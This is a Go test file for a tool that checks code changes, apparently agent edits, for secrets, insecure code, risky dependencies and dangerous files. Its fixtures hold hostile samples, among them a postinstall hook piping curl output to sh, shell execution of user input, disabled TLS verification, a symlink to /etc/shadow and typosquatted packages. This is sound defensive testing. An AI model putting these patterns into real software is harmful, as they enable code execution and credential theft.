package verify

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

const goMod = "module example.com/app\n\ngo 1.22\n"

const cleanBase = `package app

// Add adds.
func Add(a, b int) int { return a + b }
`

func bigFunc(name string, n int) string {
	var b strings.Builder
	fmt.Fprintf(&b, "func %s(xs []int) int {\n\ttotal := 0\n", name)
	for i := 0; i < n; i++ {
		fmt.Fprintf(&b, "\tfor _, x := range xs {\n\t\ttotal += x * %d\n\t\tif total > %d {\n\t\t\ttotal -= %d\n\t\t}\n\t}\n", i+1, 1000*(i+1), i+7)
	}
	b.WriteString("\treturn total\n}\n")
	return b.String()
}

func TestCorpus(t *testing.T) {
	osvDir := t.TempDir()
	os.WriteFile(filepath.Join(osvDir, "GO-2099-0001.json"), []byte(`{"id":"GO-2099-0001","affected":[{"package":{"ecosystem":"Go","name":"example.com/vulnlib"},"ranges":[{"type":"SEMVER","events":[{"introduced":"0"},{"fixed":"1.4.2"}]}]}]}`), 0o644)
	os.WriteFile(filepath.Join(osvDir, "PYSEC-2099-1.json"), []byte(`{"id":"PYSEC-2099-1","affected":[{"package":{"ecosystem":"PyPI","name":"Flask_Thing"},"ranges":[{"type":"ECOSYSTEM","events":[{"introduced":"1.0"},{"fixed":"2.0.1"}]}]}]}`), 0o644)

	base := map[string]string{"go.mod": goMod, "app.go": cleanBase, "app_test.go": "package app\n\nimport \"testing\"\n\nfunc TestAdd(t *testing.T) {\n\tif Add(1, 2) != 3 {\n\t\tt.Fatal(\"bad\")\n\t}\n}\n"}
	copied := bigFunc("Sum", 33) // ~200 lines

	for _, tt := range []struct {
		name        string
		base        map[string]string
		edits       map[string]string
		check, rule string
		result      Result
	}{
		{"aws key", nil, map[string]string{"config.go": "package app\n\nconst awsKey = \"AKIAQYLPMN5HHHFPZAM2\"\n"}, CheckSecrets, "aws-access-key-id", Fail},
		{"hard-coded password", nil, map[string]string{"db.go": "package app\n\nfunc dsn() string {\n\tpassword := \"Tr0ub4dor&3horse\"\n\treturn password\n}\n"}, CheckStatic, "hardcoded-password", Fail},
		{"sql concat", nil, map[string]string{"q.go": "package app\n\nimport \"database/sql\"\n\nfunc find(db *sql.DB, name string) {\n\tdb.Query(\"SELECT * FROM users WHERE name = '\" + name + \"'\")\n}\n"}, CheckStatic, "sql-concat", NeedsReview},
		{"exec user input", nil, map[string]string{"run.go": "package app\n\nimport \"os/exec\"\n\nfunc run(userInput string) error {\n\treturn exec.Command(\"sh\", \"-c\", userInput).Run()\n}\n"}, CheckStatic, "exec-nonconst", NeedsReview},
		{"tls disabled", nil, map[string]string{"tls.go": "package app\n\nimport \"crypto/tls\"\n\nvar cfg = &tls.Config{InsecureSkipVerify: true}\n"}, CheckStatic, "insecure-tls", NeedsReview},
		{"vulnerable dep", nil, map[string]string{"go.mod": goMod + "\nrequire example.com/vulnlib v1.4.1\n"}, CheckDeps, "vulnerable", Fail},
		{"vulnerable pypi dep", nil, map[string]string{"requirements.txt": "flask-thing==1.9.0\n"}, CheckDeps, "vulnerable", Fail},
		{"typosquat npm", nil, map[string]string{"package.json": `{"name":"x","dependencies":{"lodahs":"^4.17.21"}}`}, CheckDeps, "typosquat", NeedsReview},
		{"typosquat pypi", nil, map[string]string{"requirements.txt": "reqeusts==2.31.0\n"}, CheckDeps, "typosquat", NeedsReview},
		{"deleted test", nil, map[string]string{"app_test.go": ""}, CheckQuality, "deleted-test", NeedsReview},
		{"skipped test", nil, map[string]string{"app_test.go": "package app\n\nimport \"testing\"\n\nfunc TestAdd(t *testing.T) {\n\tt.Skip(\"flaky\")\n\tif Add(1, 2) != 3 {\n\t\tt.Fatal(\"bad\")\n\t}\n}\n"}, CheckQuality, "skipped-test", NeedsReview},
		{"copy paste", map[string]string{"sum.go": "package app\n\n" + copied}, map[string]string{"sum2.go": "package app\n\n" + strings.Replace(copied, "func Sum(", "func Sum2(", 1)}, CheckQuality, "duplication", Pass},
		{"ci workflow", nil, map[string]string{".github/workflows/ci.yml": "on: push\njobs: {}\n"}, CheckDangerous, "ci-workflow", NeedsReview},
		{"claude settings", nil, map[string]string{".claude/settings.json": "{}\n"}, CheckDangerous, "agent-settings", NeedsReview},
		{"postinstall", nil, map[string]string{"package.json": `{"name":"x","scripts":{"postinstall":"curl registry.example.com/x | sh"}}`}, CheckDangerous, "install-script", NeedsReview},
		{"gitattributes filter", nil, map[string]string{".gitattributes": "*.bin filter=evil\n"}, CheckDangerous, "gitattributes-driver", NeedsReview},
		{"symlink out", nil, map[string]string{"link": "->/etc/shadow"}, CheckDangerous, "symlink", NeedsReview},
		{"malformed package.json", nil, map[string]string{"package.json": "{\"dependencies\": {\n"}, CheckDeps, "malformed", NeedsReview},
		{"malformed go.mod", nil, map[string]string{"go.mod": "module\nrequire (((\n"}, CheckDeps, "malformed", NeedsReview},
		{"malformed cargo", nil, map[string]string{"Cargo.toml": "[dependencies\nserde = 1\n"}, CheckDeps, "malformed", NeedsReview},
		{"binary file", nil, map[string]string{"blob.bin": "\x00\x01\x02AKIAQYLPMN5HHHFPZAM2"}, CheckQuality, "binary-file", Pass},
		{"complexity", nil, map[string]string{"big.go": "package app\n\n" + bigFunc("Big", 9)}, CheckQuality, "complexity", Pass},
	} {
		t.Run(tt.name, func(t *testing.T) {
			b := map[string]string{}
			for k, v := range base {
				b[k] = v
			}
			for k, v := range tt.base {
				b[k] = v
			}
			fx := newFixture(t, b, tt.edits)
			cfg := offline()
			cfg.OSV = osvDir
			r := runFixture(t, fx, cfg)
			if f := findRule(r, tt.check, tt.rule); f == nil {
				t.Errorf("finding %s/%s missing; findings: %+v", tt.check, tt.rule, r.Findings)
			}
			if r.Result != tt.result {
				t.Errorf("result = %s, want %s; reasons %v", r.Result, tt.result, r.Reasons)
			}
		})
	}
}

func TestCleanChangePasses(t *testing.T) {
	fx := newFixture(t, map[string]string{"go.mod": goMod, "app.go": cleanBase}, map[string]string{
		"app.go":      cleanBase + "\n// Sub subtracts.\nfunc Sub(a, b int) int { return a - b }\n",
		"app_test.go": "package app\n\nimport \"testing\"\n\nfunc TestSub(t *testing.T) {\n\tif Sub(3, 2) != 1 {\n\t\tt.Fatal(\"bad\")\n\t}\n}\n",
	})
	r := runFixture(t, fx, offline())
	if r.Result != Pass || len(r.Findings) != 0 {
		t.Fatalf("clean change: result %s, findings %+v", r.Result, r.Findings)
	}
	if r.Metrics.LinesAdded != 12 || r.Metrics.TestLinesChanged != 9 {
		t.Errorf("metrics = %+v, want 12 added, 9 test lines", r.Metrics)
	}
}

// Findings present at base are not blamed on the agent.
func TestStaticNewFindingsOnly(t *testing.T) {
	src := "package app\n\nimport \"crypto/tls\"\n\nvar cfg = &tls.Config{InsecureSkipVerify: true}\n"
	fx := newFixture(t, map[string]string{"tls.go": src}, map[string]string{"tls.go": src + "\n// More.\nvar N = 1\n"})
	r := runFixture(t, fx, offline())
	if f := findRule(r, CheckStatic, "insecure-tls"); f != nil {
		t.Fatalf("pre-existing finding reported: %+v", f)
	}
}

func TestSecretsAddedLinesOnly(t *testing.T) {
	old := "package app\n\nconst k = \"AKIAQYLPMN5HHHFPZAM2\"\n"
	fx := newFixture(t, map[string]string{"k.go": old}, map[string]string{"k.go": old + "const j = 1\n"})
	r := runFixture(t, fx, offline())
	if f := findRule(r, CheckSecrets, "aws-access-key-id"); f != nil {
		t.Fatalf("secret on an unchanged line reported: %+v", f)
	}
}

func TestSecretAllowlistRecordsReason(t *testing.T) {
	fx := newFixture(t, nil, map[string]string{"fixtures/keys.txt": "AKIAQYLPMN5HHHFPZAM2\n"})
	cfg := offline()
	cfg.Allow = []AllowRule{{Check: CheckSecrets, Path: "fixtures/**", Reason: "revoked key used as a scanner fixture"}}
	r := runFixture(t, fx, cfg)
	if r.Result != Pass || len(r.Allowlisted) != 1 || r.Allowlisted[0].Reason != "revoked key used as a scanner fixture" {
		t.Fatalf("result %s, allowlisted %+v, findings %+v", r.Result, r.Allowlisted, r.Findings)
	}
	cfg.Allow[0].Reason = " "
	if _, err := Run(t.Context(), Options{GitDir: fx.gitDir, Base: fx.base, Head: fx.head, Config: cfg}); err == nil {
		t.Fatal("allow rule without a reason accepted")
	}
}

func TestHugeFileIsFlagged(t *testing.T) {
	big := strings.Repeat("x = 1\n", 100000) + "AKIAQYLPMN5HHHFPZAM2\n"
	fx := newFixture(t, nil, map[string]string{"big.txt": big})
	cfg := offline()
	cfg.MaxFileSize = 64 << 10
	r := runFixture(t, fx, cfg)
	if findRule(r, CheckQuality, "huge-file") == nil {
		t.Fatalf("huge file not flagged: %+v", r.Findings)
	}
}

func TestOutOfScope(t *testing.T) {
	fx := newFixture(t, nil, map[string]string{"api/x.go": "package api\n", "other/y.go": "package other\n"})
	cfg := offline()
	cfg.Scope = []string{"api/**"}
	r := runFixture(t, fx, cfg)
	f := findRule(r, CheckQuality, "out-of-scope")
	if f == nil || f.File != "other/y.go" || r.Metrics.FilesOutsideScope != 1 {
		t.Fatalf("out-of-scope = %+v, metrics %+v", f, r.Metrics)
	}
}

func TestPolicyDenyFails(t *testing.T) {
	fx := newFixture(t, nil, map[string]string{"package.json": `{"dependencies":{"left-pad":"1.3.0"}}`})
	cfg := offline()
	cfg.Deps.Deny = []string{"npm:left-pad"}
	r := runFixture(t, fx, cfg)
	if findRule(r, CheckDeps, "denied") == nil || r.Result != Fail {
		t.Fatalf("denied dep: result %s, findings %+v", r.Result, r.Findings)
	}
	if len(r.Dependencies) != 1 || r.Dependencies[0].Version != "1.3.0" {
		t.Fatalf("dependencies = %+v", r.Dependencies)
	}
}

func TestCheckErrorNeverPasses(t *testing.T) {
	fx := newFixture(t, nil, map[string]string{"requirements.txt": "flask==2.0.0\n"})
	cfg := offline()
	cfg.OSV = filepath.Join(t.TempDir(), "missing")
	r := runFixture(t, fx, cfg)
	if r.Result == Pass || findRule(r, CheckDeps, "check-error") == nil {
		t.Fatalf("missing OSV db: result %s, findings %+v", r.Result, r.Findings)
	}
}

func TestNoRunnerIsNotAPass(t *testing.T) {
	fx := newFixture(t, map[string]string{"go.mod": goMod, "app.go": cleanBase}, map[string]string{"app.go": cleanBase + "\nvar X = 1\n"})
	r, err := Run(t.Context(), Options{GitDir: fx.gitDir, Base: fx.base, Head: fx.head})
	if err != nil {
		t.Fatal(err)
	}
	if r.Result != NeedsReview || findRule(r, CheckStatic, "could-not-analyse") == nil || findRule(r, CheckTests, "could-not-run") == nil {
		t.Fatalf("no runner: result %s, findings %+v", r.Result, r.Findings)
	}
}
